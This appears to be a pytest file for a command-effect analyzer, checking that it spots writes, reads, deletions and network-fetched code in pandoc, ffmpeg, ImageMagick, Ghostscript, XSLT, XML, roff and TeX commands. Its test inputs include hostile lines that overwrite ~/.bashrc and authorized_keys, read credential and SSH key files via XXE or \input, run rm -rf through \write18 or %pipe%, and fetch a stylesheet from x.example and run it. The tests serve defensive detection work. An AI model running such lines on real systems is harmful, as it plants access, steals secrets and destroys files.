"""Document and media programs by their option tables and the files they read as instructions (gaps49): an output
option or operand is a write, `file:` and ImageMagick's `png:` name how, not where (programs.json `file_prefix`);
a file a `reads_code` entry names is judged by what its text says in its language (code_files.py, languages.json:
xslt, xml, tex, postscript, msl, ffconcat, roff)."""

from __future__ import annotations

from pathlib import Path

import pytest
from effect_support import HOME, ops


def _paths(line: str, proj: Path, op: str) -> set[str]:
    return {str(e["path"]) for e in ops(line, proj, op)}


@pytest.mark.parametrize(
    ("line", "written"),
    [
        ("pandoc notes.md -o ~/.bashrc", f"{HOME}/.bashrc"),
        ("pandoc notes.md --outp=$HOME/.bashrc", f"{HOME}/.bashrc"),
        ("pandoc d.docx --extract-media=.git/hooks -o /dev/null", "{proj}/.git/hooks"),
        ("ffmpeg -y -i demo.mov -map 0:a -f data .git/index", "{proj}/.git/index"),
        ("ffmpeg -i a.wav async:file:$HOME/.profile", f"{HOME}/.profile"),
        ("ffmpeg -i a.mp4 -progress ~/.ssh/authorized_keys out.mp4", f"{HOME}/.ssh/authorized_keys"),
        ("convert logo.png txt:$HOME/.ssh/authorized_keys", f"{HOME}/.ssh/authorized_keys"),
        ("magick logo.png -write .git/config x.png", "{proj}/.git/config"),
        ("mogrify -resize 50% .git/index", "{proj}/.git/index"),
        ("gs -q -dBATCH -sDEVICE=txtwrite -sOutputFile=$HOME/.bashrc in.pdf", f"{HOME}/.bashrc"),
        ("gs -sDEVICE=pdfwrite -o .git/config in.ps", "{proj}/.git/config"),
    ],
)
def test_an_output_option_or_operand_is_a_write(line: str, written: str, proj: Path) -> None:
    assert written.format(proj=proj) in _paths(line, proj, "write")


@pytest.mark.parametrize(
    ("line", "written"),
    [
        ("pandoc README.md -o README.html", {"{proj}/README.html"}),
        ("ffmpeg -i demo.mov -vf scale=640:-1 -c:v libx264 demo.mp4", {"{proj}/demo.mp4"}),
        ("convert in.png png8:out.png", {"{proj}/out.png"}),
        ("gs -sDEVICE=png16m -r150 -sOutputFile=page.png -dSAFER doc.pdf", {"{proj}/page.png"}),
    ],
)
def test_everyday_conversions_write_only_their_output(line: str, written: set[str], proj: Path) -> None:
    assert _paths(line, proj, "write") == {w.format(proj=proj) for w in written}


_KEY = f"{HOME}/.ssh/authorized_keys"


@pytest.mark.parametrize(
    ("line", "op", "path"),
    [
        (  # XSLT's exsl:document writes a second output
            'printf \'<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"><x:template match="/">'
            '<exsl:document href="%s/.ssh/authorized_keys">k</exsl:document></x:template></x:stylesheet>\' "$HOME"'
            " > /tmp/k.xsl && xsltproc /tmp/k.xsl pom.xml",
            "write",
            _KEY,
        ),
        (  # XInclude under --xinclude
            'echo \'<d><xi:include href="/home/u/.aws/credentials" parse="text"/></d>\' > /tmp/x.xml'
            " && xmllint --xinclude /tmp/x.xml",
            "read",
            f"{HOME}/.aws/credentials",
        ),
        (  # an external entity under --noent
            "echo '<!DOCTYPE d [<!ENTITY e SYSTEM \"file:///home/u/.netrc\">]><d>&e;</d>' > /tmp/e.xml"
            " && xmllint --noent /tmp/e.xml",
            "read",
            f"{HOME}/.netrc",
        ),
        ("printf '.so %s/.pgpass\\n' \"$HOME\" > /tmp/x.1 && man -P cat -l /tmp/x.1", "read", f"{HOME}/.pgpass"),
        ("printf '.cf /home/u/.netrc\\n' > /tmp/x.ms && groff -ms /tmp/x.ms", "read", f"{HOME}/.netrc"),
        (
            "printf \"file '/home/u/.ssh/id_rsa'\\n\" > l.txt && ffmpeg -f concat -safe 0 -i l.txt o.mkv",
            "read",
            f"{HOME}/.ssh/id_rsa",
        ),
        (
            "echo '<image><write filename=\"txt:/home/u/.ssh/authorized_keys\"/></image>' > /tmp/x.msl"
            " && convert msl:/tmp/x.msl /dev/null",
            "write",
            _KEY,
        ),
        ("printf '\\\\input{/home/u/.aws/credentials}' > a.tex && pdflatex a.tex", "read", f"{HOME}/.aws/credentials"),
        ("gs -dNOSAFER -c '(/home/u/.git-credentials) (r) file'", "read", f"{HOME}/.git-credentials"),
    ],
)
def test_a_file_read_as_instructions_is_judged_by_what_it_names(line: str, op: str, path: str, proj: Path) -> None:
    assert path in _paths(line, proj, op)


@pytest.mark.parametrize(
    ("line", "command"),
    [
        ("xelatex --shell-escape '\\documentclass{article}\\immediate\\write18{rm -rf ~/Documents}'", "rm -rf"),
        ("gs -q -dNOSAFER -c '(%pipe%rm -rf ~/Documents) (r) file'", "rm -rf"),
    ],
)
def test_a_command_in_document_code_is_walked(line: str, command: str, proj: Path) -> None:
    assert any(e["path"] == f"{HOME}/Documents" for e in ops(line, proj, "delete"))


def test_a_downloaded_stylesheet_is_code_from_the_network(proj: Path) -> None:
    found = ops("curl -so /tmp/s.xsl https://x.example/s.xsl && xsltproc /tmp/s.xsl d.xml", proj, "exec")
    assert [e.get("flow") for e in found if e["code"]["lang"] == "xslt"] == ["fetch"]


def test_a_plain_stylesheet_on_disk_and_a_missing_file_run_nothing_unknown(proj: Path) -> None:
    (proj / "style.xsl").write_text('<xsl:stylesheet><xsl:template match="/"><b/></xsl:template></xsl:stylesheet>')
    assert all(e["known"] for e in ops("xsltproc style.xsl doc.xml > out.html", proj, "exec"))
    assert not ops("pdflatex missing.tex", proj, "exec")


@pytest.mark.parametrize(
    "line",
    ["BC_ENV_ARGS=$HOME/.pgpass bc -q </dev/null", 'export BC_ENV_ARGS="-q $HOME/.pgpass"; echo 1+1 | bc'],
)
def test_a_file_the_environment_names_is_read(line: str, proj: Path) -> None:
    assert f"{HOME}/.pgpass" in _paths(line, proj, "read")
    assert _paths("BC_ENV_ARGS=-q bc -l </dev/null", proj, "read") <= {"/dev/null"}
